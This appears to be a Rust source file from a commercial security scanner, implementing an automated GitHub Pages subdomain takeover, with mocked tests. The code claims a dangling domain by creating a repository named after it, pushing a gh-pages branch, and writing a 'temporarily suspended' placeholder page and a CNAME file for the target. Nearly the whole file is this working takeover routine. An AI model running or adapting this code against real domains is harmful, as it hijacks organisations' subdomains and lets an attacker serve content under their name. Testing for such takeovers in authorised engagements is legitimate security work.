// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use anyhow::{Context, Result};
use async_trait::async_trait;
use base64::{engine::general_purpose::STANDARD, Engine as _};
use reqwest::Client;
use serde::Deserialize;
use serde_json::json;
use tracing::debug;

use super::{api_error, TakeoverHandler, API_TIMEOUT, API_USER_AGENT};
use crate::config::TakeoverConfig;
use crate::errors::TakeoverError;

const PROVIDER: &str = "github";
const PAGES_BRANCH: &str = "gh-pages";
const PLACEHOLDER_PAGE: &str = "This domain is temporarily suspended";

#[derive(Debug, Deserialize)]
struct Repository {
    name: String,
    owner: Owner,
    #[serde(default = "default_branch")]
    default_branch: String,
}

#[derive(Debug, Deserialize)]
struct Owner {
    login: String,
}

#[derive(Debug, Deserialize)]
struct GitRef {
    object: GitObject,
}

#[derive(Debug, Deserialize)]
struct GitObject {
    sha: String,
}

fn default_branch() -> String {
    "main".to_string()
}

/// Claims a dangling GitHub Pages site: a repository named after the domain
/// with a `gh-pages` branch carrying a placeholder page and a `CNAME` file.
pub struct GitHubPagesTakeover {
    client: Client,
    api_url: String,
    token: String,
}

impl GitHubPagesTakeover {
    pub fn new(api_url: &str, token: &str) -> Result<Self> {
        let client = Client::builder()
            .timeout(API_TIMEOUT)
            .user_agent(API_USER_AGENT)
            .build()
            .context("Failed to create GitHub API client")?;

        Ok(Self {
            client,
            api_url: api_url.trim_end_matches('/').to_string(),
            token: token.to_string(),
        })
    }

    pub fn from_config(config: &TakeoverConfig) -> Result<Self> {
        let token = config.github_token.as_deref().unwrap_or_default();
        Self::new(&config.github_api_url, token)
    }

    fn request(&self, method: reqwest::Method, path: &str) -> reqwest::RequestBuilder {
        self.client
            .request(method, format!("{}{}", self.api_url, path))
            .bearer_auth(&self.token)
            .header("Accept", "application/vnd.github+json")
            .header("X-GitHub-Api-Version", "2022-11-28")
    }

    async fn send(&self, request: reqwest::RequestBuilder) -> Result<reqwest::Response, TakeoverError> {
        let response = request
            .send()
            .await
            .map_err(|e| TakeoverError::transport(PROVIDER, e))?;

        if !response.status().is_success() {
            return Err(api_error(PROVIDER, response).await);
        }
        Ok(response)
    }

    // The licence template makes GitHub create an initial commit to branch from
    async fn create_repository(&self, domain: &str) -> Result<Repository, TakeoverError> {
        let body = json!({
            "name": domain,
            "description": "testing subdomain takeovers",
            "private": false,
            "license_template": "mit",
        });

        let response = self
            .send(self.request(reqwest::Method::POST, "/user/repos").json(&body))
            .await?;

        response
            .json::<Repository>()
            .await
            .map_err(|e| TakeoverError::transport(PROVIDER, e))
    }

    async fn head_sha(&self, repo: &Repository) -> Result<String, TakeoverError> {
        let path = format!(
            "/repos/{}/{}/git/ref/heads/{}",
            repo.owner.login, repo.name, repo.default_branch
        );
        let response = self.send(self.request(reqwest::Method::GET, &path)).await?;

        let git_ref = response
            .json::<GitRef>()
            .await
            .map_err(|e| TakeoverError::transport(PROVIDER, e))?;
        Ok(git_ref.object.sha)
    }

    async fn create_pages_branch(&self, repo: &Repository, sha: &str) -> Result<(), TakeoverError> {
        let path = format!("/repos/{}/{}/git/refs", repo.owner.login, repo.name);
        let body = json!({
            "ref": format!("refs/heads/{}", PAGES_BRANCH),
            "sha": sha,
        });

        self.send(self.request(reqwest::Method::POST, &path).json(&body))
            .await?;
        Ok(())
    }

    async fn put_file(&self, repo: &Repository, file: &str, content: &str, message: &str) -> Result<(), TakeoverError> {
        let path = format!("/repos/{}/{}/contents/{}", repo.owner.login, repo.name, file);
        let body = json!({
            "message": message,
            "content": STANDARD.encode(content),
            "branch": PAGES_BRANCH,
        });

        self.send(self.request(reqwest::Method::PUT, &path).json(&body))
            .await?;
        Ok(())
    }
}

#[async_trait]
impl TakeoverHandler for GitHubPagesTakeover {
    fn provider(&self) -> &str {
        PROVIDER
    }

    async fn attempt_takeover(&self, domain: &str) -> Result<bool, TakeoverError> {
        if self.token.is_empty() {
            return Err(TakeoverError::MissingCredentials {
                provider: PROVIDER.to_string(),
                what: "a personal access token".to_string(),
            });
        }

        let repo = self.create_repository(domain).await?;
        debug!("[Takeover] Created repository {}/{}", repo.owner.login, repo.name);

        let sha = self.head_sha(&repo).await?;
        self.create_pages_branch(&repo, &sha).await?;

        self.put_file(&repo, "index.html", PLACEHOLDER_PAGE, "Adding the index.html page")
            .await?;
        self.put_file(
            &repo,
            "CNAME",
            domain,
            "Adding the subdomain to takeover to the CNAME file",
        )
        .await?;

        Ok(true)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wiremock::matchers::{body_partial_json, header, method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    async fn mount_happy_path(mock_server: &MockServer) {
        Mock::given(method("POST"))
            .and(path("/user/repos"))
            .and(header("authorization", "Bearer ghp_test"))
            .and(body_partial_json(json!({ "name": "blog.example.com", "license_template": "mit" })))
            .respond_with(ResponseTemplate::new(201).set_body_json(json!({
                "name": "blog.example.com",
                "owner": { "login": "octo" },
                "default_branch": "main"
            })))
            .expect(1)
            .mount(mock_server)
            .await;

        Mock::given(method("GET"))
            .and(path("/repos/octo/blog.example.com/git/ref/heads/main"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "ref": "refs/heads/main",
                "object": { "sha": "abc123", "type": "commit" }
            })))
            .expect(1)
            .mount(mock_server)
            .await;

        Mock::given(method("POST"))
            .and(path("/repos/octo/blog.example.com/git/refs"))
            .and(body_partial_json(json!({ "ref": "refs/heads/gh-pages", "sha": "abc123" })))
            .respond_with(ResponseTemplate::new(201).set_body_json(json!({})))
            .expect(1)
            .mount(mock_server)
            .await;

        Mock::given(method("PUT"))
            .and(path("/repos/octo/blog.example.com/contents/index.html"))
            .and(body_partial_json(json!({
                "branch": "gh-pages",
                "content": STANDARD.encode(PLACEHOLDER_PAGE)
            })))
            .respond_with(ResponseTemplate::new(201).set_body_json(json!({})))
            .expect(1)
            .mount(mock_server)
            .await;

        Mock::given(method("PUT"))
            .and(path("/repos/octo/blog.example.com/contents/CNAME"))
            .and(body_partial_json(json!({
                "branch": "gh-pages",
                "content": STANDARD.encode("blog.example.com")
            })))
            .respond_with(ResponseTemplate::new(201).set_body_json(json!({})))
            .expect(1)
            .mount(mock_server)
            .await;
    }

    #[tokio::test]
    async fn test_full_takeover_flow() {
        let mock_server = MockServer::start().await;
        mount_happy_path(&mock_server).await;

        let handler = GitHubPagesTakeover::new(&mock_server.uri(), "ghp_test").unwrap();
        assert!(handler.attempt_takeover("blog.example.com").await.unwrap());
    }

    #[tokio::test]
    async fn test_rate_limit() {
        let mock_server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/user/repos"))
            .respond_with(
                ResponseTemplate::new(403)
                    .insert_header("x-ratelimit-remaining", "0")
                    .set_body_json(json!({ "message": "API rate limit exceeded" })),
            )
            .mount(&mock_server)
            .await;

        let handler = GitHubPagesTakeover::new(&mock_server.uri(), "ghp_test").unwrap();
        let err = handler.attempt_takeover("blog.example.com").await.unwrap_err();
        assert!(matches!(err, TakeoverError::RateLimited { .. }));
    }

    #[tokio::test]
    async fn test_api_error_message() {
        let mock_server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/user/repos"))
            .respond_with(
                ResponseTemplate::new(422)
                    .set_body_json(json!({ "message": "name already exists on this account" })),
            )
            .mount(&mock_server)
            .await;

        let handler = GitHubPagesTakeover::new(&mock_server.uri(), "ghp_test").unwrap();
        let err = handler.attempt_takeover("blog.example.com").await.unwrap_err();

        match err {
            TakeoverError::Api { status, message, .. } => {
                assert_eq!(status, 422);
                assert_eq!(message, "name already exists on this account");
            }
            other => panic!("unexpected error: {other:?}"),
        }
    }

    #[tokio::test]
    async fn test_missing_token() {
        let handler = GitHubPagesTakeover::new("http://127.0.0.1:9", "").unwrap();
        let err = handler.attempt_takeover("blog.example.com").await.unwrap_err();
        assert!(matches!(err, TakeoverError::MissingCredentials { .. }));
    }
}
